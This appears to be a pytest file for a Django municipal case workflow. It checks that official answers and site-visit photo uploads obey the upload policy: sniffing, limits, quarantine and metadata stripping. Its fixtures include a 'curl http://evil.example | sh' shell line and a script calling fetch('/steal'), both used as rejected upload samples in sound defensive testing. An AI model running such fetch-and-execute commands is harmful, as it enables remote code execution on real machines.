"""Follow-up writes: an official's answer that cannot be recorded leaves no file behind; a rating is history;
answer files and site-visit photos follow intake's attachment policy (limits, sniffed content)."""

from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import translation

from intake.attachments import ATTACHMENT_MAX_FILES, IncomingFile, attachment_check
from intake.errors import IntakeError
from intake.models import Attachment, Quarantine
from tests.fixtures.uploads.corpus import CORPUS, jpeg, png, sample_bytes
from tests.workflow.factories import official_make, reference_make, request_make
from workflow.followup import (
    official_answer_record,
    official_rating_record,
    site_visit_record,
    upload_begin,
    upload_chunk,
)
from workflow.models import ChunkedUpload, OfficialAnswer
from workflow.services import TransitionRefused, workflow_start


def _stored_files() -> set[Path]:
    root = Path(settings.MEDIA_ROOT)
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def test_it_leaves_no_orphaned_file_when_the_answer_cannot_move_the_case(operator):
    request = request_make()
    workflow_start(request=request, actor=operator)  # in the receipt inbox: "answer" is not allowed from there
    before = _stored_files()
    with pytest.raises(TransitionRefused):
        official_answer_record(request=request, actor=operator, text="ترمیم شد",
                               files=[SimpleUploadedFile("letter.pdf", b"%PDF-1.4 answer")])
    assert not OfficialAnswer.objects.filter(request=request).exists()
    assert not Attachment.objects.filter(request=request).exists()
    assert _stored_files() == before


def test_it_writes_a_history_row_when_an_official_is_rated(operator):
    official = official_make(reference=reference_make())
    request = request_make()
    official_rating_record(request=request, actor=operator, official=official, timeliness=4, quality=5)
    row = request.history.get(action="official_rating")
    assert row.actor == operator and row.data["official"] == official.pk
    assert (row.data["timeliness"], row.data["quality"]) == (4, 5)


def test_it_writes_a_history_row_for_an_answer_recorded_while_the_case_stays(operator):
    request = request_make()
    workflow_start(request=request, actor=operator)
    answer = official_answer_record(request=request, actor=operator, text="در دست اقدام است", send_to_response=False)
    row = request.history.get(action="answer_recorded")
    assert row.actor == operator and row.text == "در دست اقدام است" and row.data["answer_id"] == answer.pk
    request.refresh_from_db()
    assert request.workflow_case.box.code == "receipt"  # the case did not move


def test_it_writes_a_history_row_when_a_resumable_upload_completes(operator):
    from workflow.followup import upload_begin, upload_chunk

    request = request_make()
    photo = jpeg((160, 120))
    upload = upload_begin(request=request, user=operator, filename="visit.jpg", size=len(photo))
    upload_chunk(upload_id=upload.pk, user=operator, offset=0, data=photo[:1000])
    assert not request.history.filter(action="attach").exists()
    upload = upload_chunk(upload_id=upload.pk, user=operator, offset=1000, data=photo[1000:])
    row = request.history.get(action="attach")
    assert row.actor == operator and row.data["attachments"] == [upload.attachment_id]


def _both(message) -> tuple[str, str]:
    with translation.override("fa"):
        fa = str(message)
    with translation.override("en"):
        en = str(message)
    return fa, en


PNG = png()
NOT_PHOTOS = [
    (b"<html><body><script>fetch('/steal')</script></body></html>", "صفحهٔ وب یا اسکریپت", "web-page or script"),
    (b"#!/bin/sh\ncurl http://evil.example | sh\n", "برنامه یا اسکریپت", "program or script"),
    (b"just some words, not a picture at all", "تصویری نیست", "not an image"),
]


def _upload_whole(request, user, name: str, content: bytes):
    upload = upload_begin(request=request, user=user, filename=name, size=len(content))
    return upload, upload_chunk(upload_id=upload.pk, user=user, offset=0, data=content)


@pytest.mark.parametrize(("content", "fa", "en"), NOT_PHOTOS, ids=["html", "script", "text"])
def test_it_refuses_a_site_visit_photo_whose_bytes_are_not_an_image_and_keeps_nothing(
        operator, followup_expert, content, fa, en):
    request = request_make()
    workflow_start(request=request, actor=operator, assignee=followup_expert)
    before = _stored_files()
    with pytest.raises(TransitionRefused) as refused:
        _upload_whole(request, followup_expert, "photo.jpg", content)
    assert refused.value.status == 415
    persian, english = _both(refused.value.message)
    assert fa in persian and "photo.jpg" in persian and en in english
    assert not Attachment.objects.filter(request=request).exists()
    assert not ChunkedUpload.objects.filter(request=request).exists()
    assert _stored_files() == before  # not even the half-built upload


def test_it_still_turns_a_real_photo_into_a_site_visit(operator, followup_expert):
    request = request_make()
    workflow_start(request=request, actor=operator, assignee=followup_expert)
    _upload, done = _upload_whole(request, followup_expert, "pothole.png", PNG)
    assert done.attachment.kind == Attachment.Kind.PHOTO and done.attachment.content_type == "image/png"
    visit = site_visit_record(request=request, actor=followup_expert, note="بازدید شد", photo_ids=[done.attachment_id])
    assert list(visit.photos.all()) == [done.attachment]


@pytest.mark.parametrize(("content", "fa", "en"), NOT_PHOTOS[:2], ids=["html", "script"])
def test_it_refuses_an_official_answer_file_that_is_a_script_in_disguise(operator, followup_expert, content, fa, en):
    request = request_make()
    workflow_start(request=request, actor=operator, assignee=followup_expert)
    before = _stored_files()
    with pytest.raises(TransitionRefused) as refused:
        official_answer_record(request=request, actor=followup_expert, text="پاسخ منطقه",
                               files=[SimpleUploadedFile("answer.pdf", content)])
    assert refused.value.status == 415
    persian, english = _both(refused.value.message)
    assert fa in persian and en in english
    assert not OfficialAnswer.objects.filter(request=request).exists()
    assert not Attachment.objects.filter(request=request).exists()
    assert _stored_files() == before


REFUSED_EVERYWHERE = [
    ("tool.py", PNG, 415),                      # a script, by its name
    ("x" * 252 + ".png", PNG, 400),             # a name longer than 255 characters
    ("empty.png", b"", 400),
    ("big.png", PNG + b"\x00" * 1024 * 1024, 413),
]


@override_settings(ATTACHMENT_MAX_BYTES=1024 * 1024)
@pytest.mark.parametrize(("name", "content", "status"), REFUSED_EVERYWHERE, ids=["script-name", "long-name", "empty",
                                                                                   "too-large"])
def test_it_applies_the_same_limits_to_intake_answers_and_site_visits(operator, followup_expert, name, content,
                                                                       status):
    with pytest.raises(IntakeError) as intake_refusal:
        attachment_check(IncomingFile(name=name, content=content))
    request = request_make()
    workflow_start(request=request, actor=operator, assignee=followup_expert)
    with pytest.raises(TransitionRefused) as answer_refusal:
        official_answer_record(request=request, actor=followup_expert, text="پاسخ",
                               files=[ContentFile(content, name=name)])  # an upload's name would be cut to 255
    with pytest.raises(TransitionRefused) as visit_refusal:
        _upload_whole(request, followup_expert, name, content)
    assert intake_refusal.value.status == answer_refusal.value.status == visit_refusal.value.status == status
    assert not Attachment.objects.filter(request=request).exists()


def test_it_limits_the_number_of_files_of_an_answer_and_of_a_visit_like_intake(operator, followup_expert):
    request = request_make()
    workflow_start(request=request, actor=operator, assignee=followup_expert)
    too_many = [SimpleUploadedFile(f"page{i}.pdf", b"%PDF-1.4 page") for i in range(ATTACHMENT_MAX_FILES + 1)]
    before = _stored_files()
    with pytest.raises(TransitionRefused) as refused:
        official_answer_record(request=request, actor=followup_expert, text="پاسخ", files=too_many)
    assert refused.value.status == 400 and str(ATTACHMENT_MAX_FILES) in _both(refused.value.message)[1]
    assert _stored_files() == before and not Attachment.objects.filter(request=request).exists()
    photos = [_upload_whole(request, followup_expert, f"p{i}.png", PNG)[1].attachment_id
              for i in range(ATTACHMENT_MAX_FILES + 1)]
    with pytest.raises(TransitionRefused):
        site_visit_record(request=request, actor=followup_expert, photo_ids=photos)


# ---------------------------------------------------------------- the upload corpus through answers and visits

@pytest.mark.parametrize("key", list(CORPUS))
def test_it_applies_the_upload_policy_to_the_whole_corpus_in_an_official_answer(operator, followup_expert, clamd,
                                                                                settings, tmp_path, key):
    settings.MEDIA_ROOT = tmp_path
    sample = CORPUS[key]
    request = request_make()
    workflow_start(request=request, actor=operator, assignee=followup_expert)
    upload = SimpleUploadedFile(sample.name, sample_bytes(key))
    if sample.outcome in ("refused", "quarantined"):
        with pytest.raises(TransitionRefused) as refused:
            official_answer_record(request=request, actor=followup_expert, text="پاسخ منطقه", files=[upload])
        assert 400 <= refused.value.status < 500 and sample.name in _both(refused.value.message)[0]
        assert not OfficialAnswer.objects.filter(request=request).exists()
        assert not Attachment.objects.filter(request=request).exists()
        quarantined = Quarantine.objects.filter(request=request)
        assert quarantined.exists() is (sample.outcome == "quarantined")
        if sample.outcome == "quarantined":
            assert refused.value.status == 422 and refused.value.code == "infected"
            assert quarantined.get().uploaded_by == followup_expert and quarantined.get().signature
        return
    answer = official_answer_record(request=request, actor=followup_expert, text="پاسخ منطقه", files=[upload])
    attachment = answer.attachments.get()
    with attachment.file.open("rb") as stored:
        assert (stored.read() == sample_bytes(key)) is (sample.outcome == "accepted")


@pytest.mark.parametrize("key", [k for k, s in CORPUS.items() if s.outcome != "accepted"])
def test_it_applies_the_upload_policy_to_the_whole_corpus_in_site_visit_photos(operator, followup_expert, clamd,
                                                                               settings, tmp_path, key):
    settings.MEDIA_ROOT = tmp_path
    sample = CORPUS[key]
    request = request_make()
    workflow_start(request=request, actor=operator, assignee=followup_expert)
    if sample.outcome == "cleaned":
        _upload, done = _upload_whole(request, followup_expert, "visit.jpg", sample_bytes(key))
        with done.attachment.file.open("rb") as stored:
            kept = stored.read()
        assert kept != sample_bytes(key) and b"GPS" not in kept and done.attachment.kind == Attachment.Kind.PHOTO
        return
    with pytest.raises(TransitionRefused) as refused:
        _upload_whole(request, followup_expert, "visit.jpg", sample_bytes(key))
    assert 400 <= refused.value.status < 500
    assert not Attachment.objects.filter(request=request).exists()
    assert not ChunkedUpload.objects.filter(request=request).exists()
    assert Quarantine.objects.filter(request=request).exists() is (sample.outcome == "quarantined")
